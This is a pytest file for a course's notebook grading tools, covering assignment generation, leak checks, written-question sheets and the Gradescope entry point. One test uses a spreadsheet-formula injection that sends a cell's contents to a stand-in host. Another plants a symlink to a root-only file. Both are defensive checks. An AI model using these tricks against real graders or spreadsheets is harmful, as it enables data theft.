"""``make assign`` and the instructor's side of ``make grade``: what assign writes (student notebook,
questions in lab order with their rules, the by-hand check students see in ``grader.check``, the
Gradescope zip), how a batch finds submissions and where it writes, and Gradescope's entry point.
The grades themselves are checked case by case in tests/test_hostile.py."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import nbformat
import pytest

from helpers import PYTHON, REPO
from course_tools.grading import batch
from course_tools.grading.assign import discover_labs, plain_text, question_order, question_specs, rule_line, state_rules
from course_tools.grading.leaks import find_leaks, hidden_test_lines, readable_text, solution_lines, visible_lines

LABS = discover_labs()
IDS = [lab.name for lab in LABS]


def lab_test_files(assigned: Path, lab) -> dict:
    return {p.stem: p.read_text() for p in sorted((assigned / lab.name / "tests").glob("*.py"))}


@pytest.mark.parametrize("lab", LABS, ids=IDS)
def test_assign_writes_the_student_notebook_and_the_questions_in_lab_order(assigned, lab):
    out = assigned / lab.name
    assert (out / "student" / f"{lab.name}.ipynb").is_file() and (out / f"{lab.name}-autograder.zip").is_file()
    meta = json.loads((out / "questions.json").read_text())
    assert [q["name"] for q in meta["questions"]] == question_order(lab.master), "questions in the order students meet them"
    assert meta["title"].startswith("Lab ")
    rules = lab.grading_spec().get("by_hand") or {}
    for q in meta["questions"]:
        assert q["public"] > 0 and q["hidden"] > 0, f"question {q['name']} needs public and hidden tests"
        assert q["names"], f"the tests of {q['name']} take no name from the notebook"
        assert (q["rule"] is not None) == (q["name"] in rules)
        if q["rule"]:
            assert q["rule"]["names"] == q["names"] and q["rule"]["rule"] and q["rule"]["example"]
    written = [spec["name"] for spec in question_specs(lab.master) if spec.get("manual")]
    assert [q["name"] for q in meta["manual"]] == written, "the written questions, apart, in the order students meet them"
    assert not set(written) & {p.stem for p in (out / "tests").glob("*.py")}, "a written question has no tests"


def test_question_names_are_unique_across_labs(assigned):
    seen = {}
    for lab in LABS:
        meta = json.loads((assigned / lab.name / "questions.json").read_text())
        for q in meta["questions"] + meta["manual"]:
            assert q["name"] not in seen, f"question {q['name']!r} appears in {seen.get(q['name'])} and {lab.name}"
            seen[q["name"]] = lab.name


@pytest.mark.parametrize("lab", LABS, ids=IDS)
def test_student_notebook_holds_no_solution_and_no_hidden_test(assigned, lab):
    text = readable_text(assigned / lab.name / "student" / f"{lab.name}.ipynb")
    visible = visible_lines(lab.master)
    solutions = solution_lines(lab.master) - visible
    assert solutions, "the leak scan found no solution lines in the master: is it marked with # BEGIN SOLUTION?"
    assert not find_leaks(text, solutions), "solution lines leaked into the student notebook"
    hidden = hidden_test_lines(lab_test_files(assigned, lab)) - visible
    assert hidden, "the leak scan found no hidden-test lines"
    assert not find_leaks(text, hidden), "hidden-test lines leaked into the student notebook"
    assert "hidden=True" not in text and "BEGIN SOLUTION" not in text


def question_texts(nb) -> dict[str, str]:
    """What a student reads as each autograded question of a student notebook: the markdown cells after
    the previous question's ``grader.check`` cell, up to this question's."""
    texts, markdown = {}, []
    for cell in nb.cells:
        if cell.cell_type == "markdown":
            markdown.append(cell.source)
        elif cell.cell_type == "code" and cell.source.startswith("grader.check("):
            texts[cell.source.split('"')[1]] = "\n\n".join(markdown)
            markdown = []
    return texts


@pytest.mark.parametrize("lab", LABS, ids=IDS)
def test_every_by_hand_rule_is_stated_in_its_question_in_the_words_grader_check_shows(assigned, lab):
    """grading.yml's ``rule:`` is the one source: ``make assign`` writes it into the question's text and
    into the check ``grader.check`` runs, so the two cannot drift, and a rule is never a surprise."""
    rules = lab.grading_spec().get("by_hand") or {}
    student = nbformat.read(assigned / lab.name / "student" / f"{lab.name}.ipynb", as_version=4)
    texts = question_texts(student)
    assert set(texts) == set(question_order(lab.master)), "every autograded question ends with its grader.check cell"
    for name, spec in rules.items():
        words = f"By-hand rule: {spec['rule']}."
        assert words in plain_text(texts[name]), f"{lab.name}: question {name} does not state its by-hand rule: {words}"
        assert spec["rule"] in student.metadata["otter"]["tests"][name], f"grader.check of {name} shows another rule"
    for name, text in texts.items():
        if name not in rules:
            assert "By-hand rule:" not in plain_text(text), f"{name} states a rule that grading.yml does not give"


def test_stating_the_rules_is_idempotent_and_leaves_the_master_alone():
    lab = next(lab for lab in LABS if lab.grading_spec().get("by_hand"))
    rules = lab.grading_spec()["by_hand"]
    before = lab.master.read_text()
    nb = nbformat.read(lab.master, as_version=4)
    state_rules(nb, rules)
    once = [c.source for c in nb.cells]
    state_rules(nb, rules)
    assert [c.source for c in nb.cells] == once and lab.master.read_text() == before
    assert sum(rule_line(spec["rule"], spec.get("forbid") or ()) in s for s in once for spec in rules.values()) == len(rules)
    with pytest.raises(ValueError, match="does not ask"):
        state_rules(nbformat.read(lab.master, as_version=4), {**rules, "no_such_question": {"rule": "x"}})


@pytest.mark.parametrize("lab", LABS, ids=IDS)
def test_written_questions_are_left_to_a_person_and_their_rubric_to_the_instructor(assigned, lab):
    """Two or three short reflections per lab, 1 or 2 points each (the points their heading states),
    manual in questions.json, an answer cell in the student notebook, the rubric only in the
    instructor's copies."""
    from course_tools.grading.leaks import solution_lines

    meta = json.loads((assigned / lab.name / "questions.json").read_text())
    manual = meta["manual"]
    assert 2 <= len(manual) <= 3, f"{lab.name} has {len(manual)} written questions"
    student = nbformat.read(assigned / lab.name / "student" / f"{lab.name}.ipynb", as_version=4)
    solution = "\n".join(c.source for c in nbformat.read(assigned / lab.name / "autograder" / f"{lab.name}.ipynb",
                                                          as_version=4).cells)
    text = readable_text(assigned / lab.name / "student" / f"{lab.name}.ipynb")
    cells = student.cells
    for q in manual:
        assert q["manual"] is True and q["points"] in (1, 2) and q["rubric"] and q["prompt"]
        assert f"({q['points']} point" in q["title"], f"{q['name']}: its heading states other points than {q['points']}"
        at = [i for i, c in enumerate(cells) if c.cell_type == "markdown" and q["title"] in c.source]
        assert len(at) == 1 and "otter_answer_cell" in cells[at[0] + 1].metadata.get("tags", []), q["name"]
        assert cells[at[0] + 1].cell_type == "markdown", "the answer is written in a markdown cell"
        assert q["rubric"].splitlines()[0] in solution
    rubric = {line for line in solution_lines(lab.master) if any(line in q["rubric"] for q in manual)}
    assert rubric, "the leak scan sees the rubrics as solution lines"
    assert not find_leaks(text, rubric), "a rubric leaked into the student notebook"
    with zipfile.ZipFile(assigned / lab.name / f"{lab.name}-autograder.zip") as z:
        assert not {f"tests/{q['name']}.py" for q in manual} & set(z.namelist())


def test_make_grade_and_gradescope_list_the_written_questions_with_the_answers(assigned, tmp_path):
    """No judge needed: the written questions reach the feedback, the Gradescope results and the
    instructor's sheet, outside the autograded total."""
    import csv

    from course_tools.grading import written
    from course_tools.grading.batch import Row, Submission, feedback_text
    from course_tools.grading.gradescope import results_json
    from course_tools.grading.judge import LabTests

    lab = LABS[0]
    tests = LabTests.load(assigned / lab.name)
    manual = written.manual_questions(assigned / lab.name)
    assert manual and [q["name"] for q in manual] == [q["name"] for q in json.loads(
        (assigned / lab.name / "questions.json").read_text())["manual"]]
    nb = json.loads((assigned / lab.name / "student" / f"{lab.name}.ipynb").read_text())
    answer_cells = [i for i, c in enumerate(nb["cells"]) if "otter_answer_cell" in c["metadata"].get("tags", [])
                    and c["cell_type"] == "markdown"]
    nb["cells"][answer_cells[0]]["source"] = "Background is most of the pixels, so ..."
    nb["cells"].insert(answer_cells[0] + 1, {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
                                             "source": "print(0.95 - 0.85)"})
    given = written.answers(nb, manual)
    assert given[manual[0]["name"]] == "Background is most of the pixels, so ...\n\n```python\nprint(0.95 - 0.85)\n```"
    assert given[manual[1]["name"]] == "", "the untouched placeholder is no answer"
    assert written.answers({"cells": "not a list"}, manual) == {q["name"]: "" for q in manual}

    row = Row("alice/lab.ipynb", "graded", {q.name: q.points for q in tests.questions}, tests.possible, tests.possible)
    feedback = feedback_text(row, tests, nb, None, set())
    points = written.manual_points(manual)
    assert f"Written questions: {points:g} points, graded by a person" in feedback
    assert all(f"- {q['name']} (" in feedback and "graded by a person" in feedback for q in manual)

    results = results_json(row, tests, None, set(), nb)
    assert [t["name"] for t in results["tests"]] == question_order(lab.master), "Gradescope scores the autograded questions"
    assert sum(t["max_score"] for t in results["tests"]) == tests.possible
    assert [m["name"] for m in results["extra_data"]["manual"]] == [q["name"] for q in manual]
    assert "graded by a person" in results["output"] and "Background is most of the pixels" in results["output"]

    sheet, notes = written.write_sheet(tmp_path, manual, [Submission("alice/lab.ipynb", None),
                                                          Submission("bob/lab.ipynb", _write(tmp_path / "bob.ipynb", nb))])
    rows = list(csv.reader(sheet.open()))
    assert rows[0][:len(manual) + 2] == ["submission", *(q["name"] for q in manual), "written total"]
    assert rows[1][0] == "Points Possible" and rows[1][len(manual) + 1] == f"{points:g}"
    assert rows[3][0] == "bob/lab.ipynb" and "Background is most" in rows[3][len(manual) + 2]
    assert manual[0]["rubric"].splitlines()[0] in notes.read_text()
    rows[3][1] = "1"  # a person's score survives a resumed run's new sheet
    with sheet.open("w", newline="") as f:
        csv.writer(f).writerows(rows)
    written.write_sheet(tmp_path, manual, [Submission("bob/lab.ipynb", tmp_path / "bob.ipynb")])
    assert list(csv.reader(sheet.open()))[2][:2] == ["bob/lab.ipynb", "1"]

    # a hostile answer written as a spreadsheet formula is shown as text, not run, when the sheet is opened
    nb["cells"][answer_cells[0]]["source"] = '=HYPERLINK("http://example.invalid/?"&A1, "click")'
    written.write_sheet(tmp_path, manual, [Submission("eve/lab.ipynb", _write(tmp_path / "eve.ipynb", nb))])
    cell = list(csv.reader(sheet.open()))[2][len(manual) + 2]
    assert cell.startswith("'=HYPERLINK(") and "print(0.95 - 0.85)" in cell


def _write(path: Path, nb: dict) -> Path:
    path.write_text(json.dumps(nb))
    return path


def _answer_namespace(nb_path: Path, names: list[str]) -> dict:
    """The cells of a notebook that define ``names``, run (with the lab's usual imports)."""
    env: dict = {}
    exec("import torch\nimport torch.nn.functional as F\nfrom torch import nn", env)
    for cell in nbformat.read(nb_path, as_version=4).cells:
        if cell.cell_type == "code" and any(f"def {n}(" in cell.source for n in names):
            exec(cell.source, env)
    return env


def test_grader_check_shows_students_the_by_hand_rule_the_grader_enforces(assigned):
    """The student notebook's public tests of a ruled question end with the rule's check: it passes on
    the solution, and names the rule when an answer makes the forbidden call."""
    from otter.test_files import ExceptionTestFile

    lab = LABS[0]
    meta = json.loads((assigned / lab.name / "questions.json").read_text())
    ruled = [q for q in meta["questions"] if q["rule"]]
    assert ruled, "Lab 0 has a by-hand question"
    q = ruled[0]
    student = nbformat.read(assigned / lab.name / "student" / f"{lab.name}.ipynb", as_version=4)
    source = student.metadata["otter"]["tests"][q["name"]]
    assert "def test_follows_the_by_hand_rule(env)" in source and q["rule"]["rule"] in source

    def run(env):
        tf = ExceptionTestFile.from_string(source, path=f"{q['name']}.py")
        tf.run(env)
        return {r.test_case.name: r for r in tf.test_case_results}

    env = _answer_namespace(assigned / lab.name / "autograder" / f"{lab.name}.ipynb", q["names"])
    results = run(env)
    assert all(r.passed for r in results.values()), {n: r.message for n, r in results.items() if not r.passed}
    fn = q["names"][0]
    honest = env[fn]
    env[fn] = lambda *a, **k: (eval(q["rule"]["example"], env), honest(*a, **k))[1]
    results = run(env)
    failed = [r for r in results.values() if not r.passed]
    assert len(failed) == 1 and q["rule"]["rule"] in failed[0].message, "only the rule's check fails, and it says why"


def test_the_gradescope_zip_runs_this_grader_with_the_courses_python(assigned):
    lab = LABS[0]
    with zipfile.ZipFile(assigned / lab.name / f"{lab.name}-autograder.zip") as z:
        names = set(z.namelist())
        run_autograder = z.read("run_autograder").decode()
        setup = z.read("setup.sh").decode()
        requirements = z.read("requirements.txt").decode()
    command = [line for line in run_autograder.splitlines() if line.startswith("exec ")]
    assert len(command) == 1 and "course_tools.grading.gradescope" in command[0] and "otter" not in command[0]
    assert "python=3.11" in setup and "/opt/" in setup, "Python 3.11 where the unprivileged notebook user can read it"
    assert {"questions.json", f"student/{lab.name}.ipynb"} <= names
    assert any(n.startswith("tests/") for n in names) and any(n.startswith("files/course_tools_src/course_tools/") for n in names)
    assert not any(n.startswith("autograder/") or "course_tools_src/tests" in n for n in names), "no solution notebook"
    assert "torch==" in requirements and "safetensors==" in requirements


@pytest.mark.grading
def test_gradescope_entry_grades_a_nested_submission_into_results_json(assigned, tmp_path):
    lab = LABS[0]
    root = tmp_path / "autograder"
    (root / "source").mkdir(parents=True)
    with zipfile.ZipFile(assigned / lab.name / f"{lab.name}-autograder.zip") as z:
        z.extractall(root / "source")
    (root / "submission" / "upload").mkdir(parents=True)
    shutil.copy(assigned / lab.name / "autograder" / f"{lab.name}.ipynb", root / "submission" / "upload" / "mine.ipynb")
    proc = subprocess.run([PYTHON, "-I", "-m", "course_tools.grading.gradescope", str(root)], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr[-3000:]
    results = json.loads((root / "results" / "results.json").read_text())
    possible = sum(t["max_score"] for t in results["tests"])
    assert results["score"] == pytest.approx(possible) and possible == 8
    assert [t["name"] for t in results["tests"]] == question_order(lab.master)
    manual = json.loads((assigned / lab.name / "questions.json").read_text())["manual"]
    assert [m["name"] for m in results["extra_data"]["manual"]] == [q["name"] for q in manual], "written questions, unscored"
    said = proc.stdout + proc.stderr + json.dumps(results)
    assert "No log found" not in said and "NaN" not in said, "otter's runner noise is not what students see"
    if os.geteuid() == 0:
        assert (root / "source").stat().st_mode & 0o077 == 0, "the tests must be unreadable to the notebook's user"


def test_submissions_are_found_in_nested_folders_and_every_student_gets_a_row(tmp_path):
    (tmp_path / "alice" / "week1").mkdir(parents=True)
    (tmp_path / "alice" / "week1" / "lab.ipynb").write_text("{}")
    (tmp_path / "alice" / ".ipynb_checkpoints").mkdir()
    (tmp_path / "alice" / ".ipynb_checkpoints" / "lab-checkpoint.ipynb").write_text("{}")
    (tmp_path / "bob").mkdir()
    (tmp_path / "bob" / "report.pdf").write_text("%PDF")
    (tmp_path / "carol.ipynb").write_text("{}")
    (tmp_path / "notes.txt").write_text("not a notebook")
    (tmp_path / ".hidden").mkdir()
    (tmp_path / ".hidden" / "x.ipynb").write_text("{}")
    found = {s.name: (s.path is not None, s.problem) for s in batch.find_submissions(tmp_path)}
    assert found == {"alice/week1/lab.ipynb": (True, ""), "bob/": (False, "this folder holds no notebook (.ipynb)"),
                     "carol.ipynb": (True, ""), "notes.txt": (True, "")}


def test_a_folder_without_any_notebook_is_an_error(tmp_path):
    (tmp_path / "readme.txt").write_text("nothing here")
    with pytest.raises(SystemExit, match="no notebook"):
        batch.find_submissions(tmp_path)
    with pytest.raises(SystemExit, match="not a folder"):
        batch.find_submissions(tmp_path / "missing")


def test_each_run_writes_a_folder_of_its_own_and_never_mixes_with_another(tmp_path, monkeypatch):
    monkeypatch.setattr(batch, "REPO", tmp_path)
    first, second = batch.run_folder("00_getting_started", None, False), batch.run_folder("00_getting_started", None, False)
    assert first != second and first.parent == second.parent == tmp_path / "_grades" / "00_getting_started"
    assert (first.parent / "latest").resolve() == second.resolve()
    out = tmp_path / "mine"
    out.mkdir()
    (out / "gradebook.csv").write_text("old")
    with pytest.raises(SystemExit, match="--force"):
        batch.run_folder("00_getting_started", out, False)
    assert batch.run_folder("00_getting_started", out, True) == out and not (out / "gradebook.csv").exists()


def test_make_grade_passes_its_options_to_the_grader():
    proc = subprocess.run(["make", "-n", "grade", "LAB=00_getting_started", "SUBMISSIONS=somewhere",
                           "GRADE_ARGS=--jobs 3 --timeout 600"], cwd=REPO, capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    assert "course_tools.grading.batch 00_getting_started somewhere --jobs 3 --timeout 600" in proc.stdout


@pytest.mark.grading
def test_gradescope_entry_always_writes_results_and_never_follows_a_link(assigned, tmp_path, monkeypatch):
    from course_tools.grading import gradescope

    lab = LABS[0]
    root = tmp_path / "autograder"
    (root / "source").mkdir(parents=True)
    with zipfile.ZipFile(assigned / lab.name / f"{lab.name}-autograder.zip") as z:
        z.extractall(root / "source")
    (root / "submission").mkdir()
    secret = tmp_path / "root_only.ipynb"  # stands for a root-only file of the image, shaped like a notebook
    solution = json.loads((assigned / lab.name / "autograder" / f"{lab.name}.ipynb").read_text())
    secret.write_text(json.dumps(solution))
    (root / "submission" / "mine.ipynb").symlink_to(secret)
    assert gradescope.main([str(root)]) == 0
    results = json.loads((root / "results" / "results.json").read_text())
    assert results["score"] == 0 and "no notebook" in results["output"], "the linked file was not read"

    (root / "submission" / "mine.ipynb").unlink()
    (root / "submission" / "mine.ipynb").write_text(json.dumps(solution))

    class Broken:
        def __init__(self, slot):
            pass

        def grade(self, *args):
            raise KeyError("a grader bug")

        def close(self):
            pass

    monkeypatch.setattr(gradescope, "Judge", Broken)
    assert gradescope.main([str(root)]) == 0
    results = json.loads((root / "results" / "results.json").read_text())
    assert results["score"] == 0 and "Status: crashed" in results["output"] and "grader error: KeyError" in results["output"]
